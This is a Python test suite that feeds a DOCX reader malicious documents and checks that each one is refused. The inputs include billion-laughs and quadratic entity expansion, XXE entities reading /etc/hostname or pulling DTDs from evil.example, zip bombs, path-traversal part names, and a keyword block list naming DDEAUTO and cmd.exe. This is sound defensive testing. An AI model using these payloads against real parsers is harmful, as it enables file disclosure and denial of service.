"""Documents that mean harm: nothing runs, nothing is fetched, what grows without end is refused."""

import struct
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from publisher import package
from publisher.contracts import Source
from publisher.errors import ReadError
from publisher.model import Article
from publisher.readers.docx import DocxReader
from publisher.report import Report
from publisher.walk import texts
from tests.readers.docx_files.parts import begin, p
from tests.readers.docx_files.parts import package as packed

FOLDER = Path(__file__).parent / "docx_files"
DOCUMENT = "word/document.xml"


def read(data: bytes) -> Article:
    return DocxReader().read(Source("a.docx", data, Path()), Report())


def changed(change: bytes, old: bytes = b"<w:body>", part: str = DOCUMENT) -> bytes:
    """Return a sound document with ``change`` after ``old`` in one of its parts."""
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(packed(begin()))) as given, zipfile.ZipFile(stream, "w") as made:
        for name in given.namelist():
            content = given.read(name)
            if name == part:
                assert old in content
                content = content.replace(old, old + change, 1)
            made.writestr(name, content)
    return stream.getvalue()


def refusal(data: bytes) -> ReadError:
    with pytest.raises(ReadError) as refused:
        read(data)
    assert "\n" not in str(refused.value)
    assert refused.value.hint
    return refused.value


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("doctype", "use"),
    [
        (f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>', "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"),
        (f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>', '<w:p w:rsidR="&l9;"/>'),
        (
            f'<!DOCTYPE a [<!ENTITY q "{"q" * 50_000}">]>',
            f"<w:p><w:r><w:t>{'&q;' * 50_000}</w:t></w:r></w:p>",
        ),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"),
        ('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', ""),
        ('<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">', ""),
    ],
    ids=["laughs", "laughs in an attribute", "quadratic", "file", "parameter", "outside"],
)
def test_entities_of_any_kind_are_refused(doctype: str, use: str) -> None:
    data = changed(use.encode())
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as given, zipfile.ZipFile(stream, "w") as made:
        for name in given.namelist():
            asked = doctype.encode() if name == DOCUMENT else b""
            made.writestr(name, given.read(name).replace(b"?>", b"?>" + asked, 1))
    refusal(stream.getvalue())


def test_elements_nested_without_end_are_refused() -> None:
    assert "broken" in str(refusal(changed(b"<w:sdt><w:sdtContent>" * 5_000)))


def test_a_part_that_says_it_is_small_and_is_not_is_refused() -> None:
    data = bytearray(changed(b" " * (1 << 20)))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(mark)
        while at >= 0:
            name = data[at + place + 4 + (4 if mark[2] == 3 else 18) :][: len(DOCUMENT)]
            if bytes(name) == DOCUMENT.encode():
                data[at + place : at + place + 4] = struct.pack("<I", 100)
            at = data.find(mark, at + 4)
    assert "cannot be unpacked" in str(refusal(bytes(data)))


def test_many_parts_that_are_one_in_the_file_are_refused() -> None:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/big.bin", bytes(package.PART_LIMIT))
        (entry,) = made.infolist()
        for number in range(5):  # as overlapping bombs do: entries of one and the same data
            twin = zipfile.ZipInfo(f"word/big{number}.bin")
            twin.header_offset, twin.file_size = entry.header_offset, entry.file_size
            twin.compress_size, twin.CRC = entry.compress_size, entry.CRC
            twin.compress_type = entry.compress_type
            made.filelist.append(twin)
    assert "unpacks to more" in str(refusal(stream.getvalue()))


def test_more_parts_than_any_document_has_are_refused() -> None:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for number in range(package.MOST_PARTS + 1):
            made.writestr(f"{number}", b"")
    refusal(stream.getvalue())


@pytest.mark.parametrize("name", ["../out.xml", "/etc/cron.d/x", "word/../../x", "word\\..\\x"])
def test_a_part_whose_name_leads_out_is_refused(name: str) -> None:
    stream = BytesIO(packed(begin()))
    with zipfile.ZipFile(stream, "a") as made:
        made.writestr(name, b"")
    assert "leads out" in str(refusal(stream.getvalue()))


def test_a_locked_document_says_that_it_is_locked() -> None:
    assert "password" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)).hint


def test_a_relation_out_of_the_package_reaches_no_file() -> None:
    picture = '<w:drawing><a:blip r:embed="p1"/></w:drawing>'
    link = '<Relationship Id="p1" Type="x/image" Target="../../../../../../etc/hostname"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    relations = f'<Relationships xmlns="{space}">{link}</Relationships>'.encode()
    body = begin() + p(inside=f"<w:r>{picture}</w:r>")
    report = Report()
    data = packed(body, loose={"word/_rels/document.xml.rels": relations})
    assert not DocxReader().read(Source("a.docx", data, Path()), report).assets
    assert [n.code for n in report if n.code == "picture-missing"]


WATCHED = """
import sys
from pathlib import Path

allowed = tuple(str(Path(p).resolve()) for p in (*sys.path, sys.prefix, sys.base_prefix) if p)
opened = []

def watch(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "urllib.")):
        raise RuntimeError(f"{event}{arguments}")
    if event == "open" and isinstance(arguments[0], str):
        opened.append(str(Path(arguments[0]).resolve()))

from publisher.contracts import Source
from publisher.errors import ReadError
from publisher.readers.docx import DocxReader
from publisher.report import Report

files = [(Path(name), Path(name).read_bytes()) for name in sys.argv[1:]]
sys.addaudithook(watch)
for path, data in files:
    try:
        DocxReader().read(Source(path.name, data, path.parent), Report())
    except ReadError:
        pass
strange = [name for name in opened if not name.startswith(allowed) and "/dev/" not in name]
assert not strange, strange
print(len(files))
"""


def test_reading_opens_no_socket_no_program_and_no_other_file() -> None:
    files = sorted(str(path) for path in FOLDER.glob("*.docx"))
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, *files], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr[-500:]
    assert int(done.stdout) == len(files)


@pytest.mark.parametrize("name", ["hand-fields-that-run", "hand-links-outside", "hand-remote", "hand-macros"])
def test_what_leads_outside_is_in_no_article(name: str) -> None:
    article = read((FOLDER / f"{name}.docx").read_bytes())
    said = repr(article)
    assert not article.assets
    for word in ("evil.example", "javascript:", "file:", "DDEAUTO", "INCLUDE", "cmd.exe", "<script>"):
        assert word not in said
    assert any("opened its doors" in text for _, text in texts(article))
